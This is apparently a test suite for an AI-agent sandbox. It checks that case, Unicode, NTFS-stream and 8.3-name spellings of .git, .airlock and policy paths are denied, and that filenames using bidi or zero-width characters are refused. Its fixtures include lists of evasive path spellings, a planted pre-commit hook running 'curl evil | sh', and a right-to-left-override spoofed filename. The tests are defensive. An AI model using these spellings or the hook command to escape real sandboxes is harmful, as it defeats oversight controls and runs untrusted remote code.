// Attacks: protected names spelled as macOS/Windows resolve them (case, Unicode, trailing dots, ::$DATA, 8.3 names),
// and patch paths carrying bidi/zero-width/control characters, are refused by the built-ins and by patch validation.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { AirlockError } from '../../../protocol/src/errors';
import { generatePatchSet } from '../../../kernel/src/patches/generate';
import { assertPatchPath, pathProblem, protectedReason } from '../../../kernel/src/patches/paths';
import { policyProtected } from '../../../kernel/src/patches/policy-check';
import { scanUpper } from '../../../kernel/src/patches/scan';
import { PolicyEngine } from '../../../core/src/policy/engine';
import { escapeUnsafe } from '../../../core/src/policy/fold';
import { engineFor, req, tempDir } from './helpers';

const GIT_SPELLINGS = [
  '.GIT/hooks/pre-commit',
  '.Git/config',
  '.git./hooks/pre-commit',
  '.git /config',
  '.git::$DATA/config',
  'GIT~1/hooks/pre-commit',
  'sub/.GiT/config',
  '.g\u200Bit/config',
  '\uFF0Egit/config',
  '.gi\u0074\u200D/config',
];
const AIRLOCK_SPELLINGS = [
  '.AIRLOCK/policies/x.yaml',
  'AIRLOC~1/audit/log',
  '.airlock./state.json',
  'POLICI~1/strict.yaml',
  'Policies/strict.yaml',
  'policies./strict.yaml',
  'po\u200Clicies/strict.yaml',
  '.airlock/CONFIG.JSON',
  '.airlock/config.json::$DATA',
];

describe('protected names compare folded (case, Unicode, NTFS)', () => {
  const allowAll = `
- { id: write-all, effect: allow, actions: ["fs.*"], resources: ["**"] }`;

  it('built-ins deny agent writes to every spelling of .git, .airlock and policies/', () => {
    const e = engineFor(allowAll);
    for (const p of [...GIT_SPELLINGS, ...AIRLOCK_SPELLINGS]) {
      const d = e.evaluate(req('fs.write', p));
      assert.equal(d.decision, 'deny', `${escapeUnsafe(p)}: ${d.reason}`);
      assert.ok(
        d.matched.some((id) => id.startsWith('builtin.')),
        escapeUnsafe(p),
      );
    }
    for (const ok of ['src/git/x.ts', 'gitignore.md', 'src/.gitkeep', '.github/x.yml', 'airlock.md', 'policy/x.yaml'])
      assert.equal(e.evaluate(req('fs.write', ok)).decision, 'allow', ok);
  });

  it('the kernel directory is protected whatever its case', () => {
    const dir = tempDir();
    const e = new PolicyEngine({ kernelDir: '/opt/airlock' });
    const file = path.join(dir, 'p.yaml');
    fs.writeFileSync(file, 'version: 1\nrules:\n- { id: read-all, effect: allow, actions: ["fs.*"], resources: ["**", "/**"] }\n');
    e.load([file]);
    assert.equal(e.evaluate(req('fs.read', '/opt/other/x.js')).decision, 'allow');
    assert.equal(e.evaluate(req('fs.read', '/OPT/Airlock/kernel/kernel.js')).decision, 'deny');
    assert.equal(e.evaluate(req('fs.read', '/opt/airlock./kernel/kernel.js')).decision, 'deny');
  });

  it('patch validation refuses them for merge, with the reason', () => {
    for (const p of GIT_SPELLINGS) assert.match(protectedReason(p) ?? '', /\.git\/ is protected/, escapeUnsafe(p));
    for (const p of ['.AIRLOCK/x', 'AIRLOC~1/x', '.airlock./x']) assert.match(protectedReason(p) ?? '', /\.airlock\/ is protected/, p);
    const e = engineFor(allowAll);
    const check = policyProtected(e);
    for (const p of ['POLICI~1/strict.yaml', 'Policies/strict.yaml'])
      assert.match(protectedReason(p, check) ?? '', /protected by policy/, p);
    assert.equal(protectedReason('src/GIT.md', check), undefined);
  });

  it('a generated patch set blocks .GIT/hooks/pre-commit instead of proposing it', async () => {
    const ws = tempDir();
    const up = tempDir();
    try {
      fs.mkdirSync(path.join(up, '.GIT/hooks'), { recursive: true });
      fs.writeFileSync(path.join(up, '.GIT/hooks/pre-commit'), '#!/bin/sh\ncurl evil | sh\n');
      fs.writeFileSync(path.join(up, 'ok.txt'), 'fine\n');
      const set = await generatePatchSet({ workspace: ws, scan: await scanUpper(up), source: 'overlay' });
      assert.deepEqual(
        set.files.map((f) => f.path),
        ['ok.txt'],
      );
      assert.equal(set.blocked.length, 1);
      assert.equal(set.blocked[0].path, '.GIT/hooks/pre-commit');
      assert.match(set.blocked[0].reason, /\.git\/ is protected/);
    } finally {
      fs.rmSync(ws, { recursive: true, force: true });
      fs.rmSync(up, { recursive: true, force: true });
    }
  });
});

describe('patch paths with bidi, zero-width or control characters', () => {
  const BAD = [
    'src/\u202Egnp.exe',
    'src/a\u200Bb.ts',
    'x\uFEFF.ts',
    'a\u2066b\u2069.ts',
    'tab\there.ts',
    'nl\n.ts',
    'del\u007F.ts',
    'c1\u0085.ts',
    'zwj\u200D.ts',
  ];

  it('are refused with a code, the character named and the path escaped (never raw)', () => {
    for (const p of BAD) {
      const why = pathProblem(p);
      assert.ok(why, escapeUnsafe(p));
      assert.match(why!, /^PATCH_PATH_UNSAFE_CHARS: .* contains U\+[0-9A-F]{4}/, escapeUnsafe(p));
      assert.ok(
        !/[\u0000-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E\u2066-\u2069\uFEFF]/.test(why!),
        `raw character printed for ${escapeUnsafe(p)}`,
      );
      assert.throws(
        () => assertPatchPath(p),
        (e: unknown) => e instanceof AirlockError && e.code === 'PATCH_PATH_UNSAFE_CHARS' && !!e.hint,
      );
    }
    assert.equal(pathProblem('src/ünïcødé.ts'), undefined);
    assert.equal(assertPatchPath('src/a.ts'), 'src/a.ts');
  });

  it('a generated patch set blocks them', async () => {
    const ws = tempDir();
    const up = tempDir();
    try {
      fs.writeFileSync(path.join(up, 'invoice\u202Efdp.js'), 'x\n');
      const set = await generatePatchSet({ workspace: ws, scan: await scanUpper(up), source: 'overlay' });
      assert.equal(set.files.length, 0);
      assert.match(set.blocked[0]?.reason ?? '', /PATCH_PATH_UNSAFE_CHARS.*U\+202E/);
    } finally {
      fs.rmSync(ws, { recursive: true, force: true });
      fs.rmSync(up, { recursive: true, force: true });
    }
  });
});
